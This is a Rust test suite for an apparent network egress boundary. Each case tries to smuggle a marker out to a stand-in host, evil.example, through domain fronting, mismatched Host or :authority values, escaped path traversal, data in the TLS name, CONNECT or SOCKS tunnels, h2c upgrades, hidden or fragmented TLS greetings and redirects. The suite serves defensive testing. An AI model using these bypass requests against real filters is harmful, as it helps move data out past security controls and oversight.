//! Names of hosts that do not belong together, and what rules say of requests.

use std::sync::Arc;

use bytes::Bytes;
use http::Request;
use http_body_util::Full;
use rustls::pki_types::ServerName;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio_rustls::TlsConnector;

use super::cases;
use crate::client::{answer, get2, handshake2, in_time, rest, send2};
use crate::world::World;

const INSPECTED: &str = "93.184.215.10:443";
const PASSED: &str = "93.184.215.11";
const FRONT: &str = "93.184.215.20:443";

fn get(path: &str, host: &str) -> String {
    format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n")
}

/// A request to a host that is opened, with whatever line and Host.
async fn inspected(world: &World, line: &str, host: &str) {
    world.lookup("inspected.example.").await;
    let request = format!("{line} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    world.secure(INSPECTED, "inspected.example", &request).await;
}

async fn front(world: &World, request: &str) -> String {
    world.lookup("front.example.").await;
    world.secure(FRONT, "front.example", request).await
}

/// A TLS greeting of any configuration, and a request behind it.
async fn greet(world: &World, config: rustls::ClientConfig, to: &str, name: &str, request: &str) {
    let stream = world.dial(to).await;
    let name = ServerName::try_from(name.to_owned()).unwrap();
    let connecting = TlsConnector::from(Arc::new(config)).connect(name, stream);
    if let Ok(mut stream) = in_time(connecting).await {
        let _ = stream.write_all(request.as_bytes()).await;
        answer(&mut stream).await;
    }
}

cases! {
    "denied-tls": "TLS to a host that no rule allows", Escapes, |w, m| {
        w.secure("93.184.215.66:443", "evil.example", &get(&format!("/{m}"), "evil.example")).await;
        false
    };
    "denied-http": "a request in the clear to a host that no rule allows", Escapes, |w, m| {
        w.plain("93.184.215.66:80", format!("GET /{m} HTTP/1.0\r\nHost: evil.example\r\n\r\n").as_bytes()).await;
        false
    };
    "denied-http2": "HTTP/2 to a host that no rule allows", Escapes, |w, m| {
        let _ = w.http2("93.184.215.66:443", "evil.example", get2(&format!("https://evil.example/{m}"))).await;
        false
    };
    "denied-name-in-greeting": "data in the TLS name, at a port for databases", Escapes, |w, m| {
        w.lookup("db.example.").await;
        let _ = tokio::time::timeout(
            std::time::Duration::from_millis(500),
            w.tls("93.184.215.30:5432", &format!("{m}.evil.example"), &[]),
        ).await;
        false
    };
    "apex": "TLS to the name above a wild card", Escapes, |w, m| {
        w.secure("93.184.215.40:443", "wild.example", &get(&format!("/{m}"), "wild.example")).await;
        false
    };
    "suffix": "a name that only ends like an allowed one", Escapes, |w, m| {
        let name = "evilpassed.example";
        w.secure("93.184.215.66:443", name, &get(&format!("/{m}"), name)).await;
        false
    };
    "deny-rule": "a name that a rule refuses below an allowed wild card", Escapes, |w, m| {
        let name = "NEVER.wild.example";
        w.secure("93.184.215.41:443", name, &get(&format!("/{m}"), name)).await;
        false
    };
    "name-not-host": "an allowed TLS name, another Host inside", Escapes, |w, m| {
        inspected(&w, &format!("GET /ok/{m}"), "evil.example").await;
        false
    };
    "name-not-host-kept": "another Host in the second request of a connection", Escapes, |w, m| {
        w.lookup("inspected.example.").await;
        let mut stream = w.tls(INSPECTED, "inspected.example", &["http/1.1"]).await.unwrap();
        stream.write_all(get("/ok", "inspected.example").as_bytes()).await.unwrap();
        assert!(answer(&mut stream).await.starts_with("HTTP/1.1 200"));
        stream.write_all(get(&format!("/ok/{m}"), "evil.example").as_bytes()).await.unwrap();
        answer(&mut stream).await;
        false
    };
    "fronting": "a host on the same machine as an allowed one, in the Host field", Escapes, |w, m| {
        front(&w, &get(&format!("/{m}"), "fronted.example")).await;
        false
    };
    "fronting-plain": "the same in the clear, in the second request of a connection", Escapes, |w, m| {
        w.lookup("passed.example.").await;
        let mut stream = w.dial(&format!("{PASSED}:80")).await;
        stream.write_all(get("/ok", "passed.example").as_bytes()).await.unwrap();
        assert!(answer(&mut stream).await.starts_with("HTTP/1.1 200"));
        stream.write_all(get(&format!("/{m}"), "evil.example").as_bytes()).await.unwrap();
        answer(&mut stream).await;
        false
    };
    "fronting-http2": "another :authority in HTTP/2", Escapes, |w, m| {
        w.lookup("front.example.").await;
        let _ = w.http2(FRONT, "front.example", get2(&format!("https://fronted.example/{m}"))).await;
        false
    };
    "fronting-http2-stream": "another :authority in the second stream", Escapes, |w, m| {
        w.lookup("front.example.").await;
        let stream = w.tls(FRONT, "front.example", &["h2"]).await.unwrap();
        let mut client = handshake2(stream).await.unwrap();
        let first = send2(&mut client, get2("https://front.example/")).await.unwrap();
        assert_eq!(first.head.status(), 200);
        let _ = send2(&mut client, get2(&format!("https://fronted.example/{m}"))).await;
        false
    };
    "http2-host": "a Host field beside another :authority", Holds, |w, m| {
        w.lookup("front.example.").await;
        let mut request = get2(&format!("https://front.example/{m}"));
        request.headers_mut().insert("host", "evil.example".parse().unwrap());
        let _ = w.http2(FRONT, "front.example", request).await;
        false
    };
    "http2-port": "another port in :authority", Escapes, |w, m| {
        w.lookup("front.example.").await;
        let _ = w.http2(FRONT, "front.example", get2(&format!("https://front.example:8443/{m}"))).await;
        false
    };
    "http2-connect": "a tunnel through HTTP/2", Holds, |w, m| {
        w.lookup("front.example.").await;
        let request = Request::builder().method("CONNECT").uri(format!("{m}.evil.example:443"));
        let _ = w.http2(FRONT, "front.example", request.body(Full::<Bytes>::default()).unwrap()).await;
        false
    };
    "host-port": "another port in the Host field", Escapes, |w, m| {
        front(&w, &get(&format!("/{m}"), "front.example:8443")).await;
        false
    };
    "host-address": "an address in the Host field of an opened connection", Escapes, |w, m| {
        front(&w, &get(&format!("/{m}"), "93.184.215.66")).await;
        false
    };
    "absolute": "a whole URI of another host, as to a proxy", Holds, |w, m| {
        w.lookup("passed.example.").await;
        let request = format!("GET http://evil.example/{m} HTTP/1.1\r\nHost: passed.example\r\n\r\n");
        w.plain(&format!("{PASSED}:80"), request.as_bytes()).await;
        false
    };
    "absolute-no-host": "a whole URI without a Host field", Holds, |w, m| {
        w.lookup("passed.example.").await;
        let request = format!("GET http://passed.example/{m} HTTP/1.1\r\n\r\n");
        w.plain(&format!("{PASSED}:80"), request.as_bytes()).await;
        false
    };
    "absolute-denied": "a whole URI and a Host field of a denied host", Escapes, |w, m| {
        w.lookup("passed.example.").await;
        let request = format!("GET http://evil.example/{m} HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n");
        w.plain(&format!("{PASSED}:80"), request.as_bytes()).await;
        false
    };
    "absolute-scheme": "a whole URI of another scheme", Holds, |w, m| {
        front(&w, &format!("GET http://front.example/{m} HTTP/1.1\r\nHost: front.example\r\n\r\n")).await;
        false
    };
    "connect": "a tunnel through the boundary, as through a proxy", Holds, |w, m| {
        w.lookup("passed.example.").await;
        let mut stream = w.dial(&format!("{PASSED}:80")).await;
        let request = "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n";
        let _ = stream.write_all(request.as_bytes()).await;
        let _ = stream.write_all(m.as_bytes()).await;
        rest(&mut stream).await;
        false
    };
    "socks": "a SOCKS greeting, as to a proxy", Escapes, |w, m| {
        let mut stream = w.dial("93.184.215.66:1080").await;
        let _ = stream.write_all(format!("\x05\x01{m}").as_bytes()).await;
        let _ = stream.shutdown().await;
        rest(&mut stream).await;
        false
    };
    "redirect": "a server that leads to a host that is not allowed", Escapes, |w, m| {
        inspected(&w, "GET /redirect", "inspected.example").await;
        // Nobody followed it; the client does.
        let followed = w.seen.has("/taken");
        w.secure("93.184.215.66:443", "evil.example", &get(&format!("/taken/{m}"), "evil.example")).await;
        followed
    };
    "method": "a method that the rule does not name", Escapes, |w, m| {
        inspected(&w, &format!("DELETE /ok/{m}"), "inspected.example").await;
        false
    };
    "method-unknown": "a method that nobody knows", Escapes, |w, m| {
        inspected(&w, &format!("EXFILTRATE /ok/{m}"), "inspected.example").await;
        false
    };
    "method-case": "a refused method in small letters", Escapes, |w, m| {
        front(&w, &format!("delete /{m} HTTP/1.1\r\nHost: front.example\r\n\r\n")).await;
        false
    };
    "method-http2": "a refused method in HTTP/2", Escapes, |w, m| {
        w.lookup("front.example.").await;
        let request = Request::delete(format!("https://front.example/{m}")).body(Full::default()).unwrap();
        let _ = w.http2(FRONT, "front.example", request).await;
        false
    };
    "path": "a path that the rule does not name", Escapes, |w, m| {
        inspected(&w, &format!("GET /admin/{m}"), "inspected.example").await;
        false
    };
    "path-dots": "a path that leaves the allowed one by dots", Escapes, |w, m| {
        inspected(&w, &format!("GET /ok/../admin/{m}"), "inspected.example").await;
        false
    };
    "path-dots-escaped": "the same with escaped dots", Escapes, |w, m| {
        inspected(&w, &format!("GET /ok/%2e%2e/admin/{m}"), "inspected.example").await;
        false
    };
    "path-dots-twice": "the same with dots escaped twice", Escapes, |w, m| {
        inspected(&w, &format!("GET /ok/%252e%252e/admin/{m}"), "inspected.example").await;
        false
    };
    "path-slash-escaped": "the same with an escaped slash", Escapes, |w, m| {
        inspected(&w, &format!("GET /ok/..%2fadmin/{m}"), "inspected.example").await;
        false
    };
    "path-parameter": "the same with a parameter behind the dots", Escapes, |w, m| {
        inspected(&w, &format!("GET /ok/..;x/admin/{m}"), "inspected.example").await;
        false
    };
    "path-empty-segment": "the same with an empty segment", Escapes, |w, m| {
        inspected(&w, &format!("GET //admin/ok/{m}"), "inspected.example").await;
        false
    };
    "query": "a query that the rule does not name", Escapes, |w, m| {
        w.lookup("search.example.").await;
        let request = get(&format!("/?q={m}"), "search.example");
        w.secure("93.184.215.32:443", "search.example", &request).await;
        false
    };
    "query-twice": "a second value behind an allowed one", Escapes, |w, m| {
        w.lookup("search.example.").await;
        let request = get(&format!("/?q=safe&q={m}"), "search.example");
        w.secure("93.184.215.32:443", "search.example", &request).await;
        false
    };
    "query-missing": "no value at all", Escapes, |w, m| {
        w.lookup("search.example.").await;
        w.secure("93.184.215.32:443", "search.example", &get(&format!("/{m}"), "search.example")).await;
        false
    };
    "websocket-path": "a WebSocket at a path that the rule does not name", Escapes, |w, m| {
        w.lookup("inspected.example.").await;
        let request = format!(
            "GET /admin/{m} HTTP/1.1\r\nHost: inspected.example\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n"
        );
        w.secure(INSPECTED, "inspected.example", &request).await;
        false
    };
    "upgrade-h2c": "an upgrade to HTTP/2 in the clear, to speak behind the boundary's back", Holds, |w, m| {
        w.lookup("passed.example.").await;
        let mut stream = w.dial(&format!("{PASSED}:80")).await;
        let request = "GET /ok HTTP/1.1\r\nHost: passed.example\r\nConnection: Upgrade, HTTP2-Settings\r\n\
            Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n";
        stream.write_all(request.as_bytes()).await.unwrap();
        let first = answer(&mut stream).await;
        let _ = stream.write_all(format!("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n{m}").as_bytes()).await;
        rest(&mut stream).await;
        first.starts_with("HTTP/1.1 101")
    };
    "encrypted-greeting": "a greeting that hides its name (ECH)", Escapes, |w, m| {
        use rustls::client::{EchGreaseConfig, EchMode};
        use rustls::crypto::hpke::Hpke;
        use rustls::crypto::aws_lc_rs::hpke::DH_KEM_X25519_HKDF_SHA256_AES_128 as SUITE;
        w.lookup("passed.example.").await;
        let (key, _) = SUITE.generate_key_pair().unwrap();
        let mut roots = w.internet.roots();
        roots.add(w.session.certificate_der().clone()).unwrap();
        let config = rustls::ClientConfig::builder_with_provider(
            Arc::new(rustls::crypto::aws_lc_rs::default_provider())
        )
        .with_ech(EchMode::Grease(EchGreaseConfig::new(SUITE, key)))
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth();
        greet(&w, config, &format!("{PASSED}:443"), "passed.example", &get(&format!("/{m}"), "passed.example")).await;
        false
    };
    "split-greeting": "a greeting in many small records, to hide its name", Escapes, |w, m| {
        let mut config = w.client_config();
        config.max_fragment_size = Some(64);
        greet(&w, config, "93.184.215.66:443", "evil.example", &get(&format!("/{m}"), "evil.example")).await;
        false
    };
    "old-greeting": "a greeting of SSL 2, which names nobody", Holds, |w, m| {
        w.lookup("passed.example.").await;
        let mut stream = w.dial(&format!("{PASSED}:443")).await;
        let mut hello = vec![0x80, 0x40, 1, 3, 1];
        hello.extend_from_slice(m.as_bytes());
        hello.resize(66, 0);
        let _ = stream.write_all(&hello).await;
        let _ = in_time(stream.read(&mut [0; 64])).await;
        !w.wires.dialled.lock().unwrap().is_empty()
    };
    "broken-greeting": "something that begins like TLS and is none", Holds, |w, m| {
        w.lookup("db.example.").await;
        let mut stream = w.dial("93.184.215.30:5432").await;
        let _ = stream.write_all(format!("\x16\x03\x01\x00\x20{m}{m}{m}{m}").as_bytes()).await;
        let _ = in_time(stream.read(&mut [0; 64])).await;
        false
    };
    "rate": "more requests than a rule's rate", Escapes, |w, m| {
        w.lookup("rare.example.").await;
        let mut stream = w.tls("93.184.215.52:443", "rare.example", &["http/1.1"]).await.unwrap();
        for path in ["/1", "/2", "/3", &format!("/{m}")] {
            stream.write_all(get(path, "rare.example").as_bytes()).await.unwrap();
            answer(&mut stream).await;
        }
        false
    };
    "bytes": "a body that is longer than a rule's quota", Escapes, |w, m| {
        w.lookup("small.example.").await;
        let body = "x".repeat(60_000);
        let request = format!(
            "POST /whole HTTP/1.1\r\nHost: small.example\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        );
        w.secure("93.184.215.51:443", "small.example", &request).await;
        // The head may arrive; the whole body must not.
        w.seen.has("60000 bytes, broken: false")
    };
    "unrecorded-request": "a request whose record cannot be kept", Holds, |w, m| {
        w.lookup("inspected.example.").await;
        let mut stream = w.tls(INSPECTED, "inspected.example", &["http/1.1"]).await.unwrap();
        w.notes.failing.store(true, std::sync::atomic::Ordering::SeqCst);
        stream.write_all(get(&format!("/ok/{m}"), "inspected.example").as_bytes()).await.unwrap();
        let answer = answer(&mut stream).await;
        assert!(answer.starts_with("HTTP/1.1 503"), "{answer}");
        false
    };
}
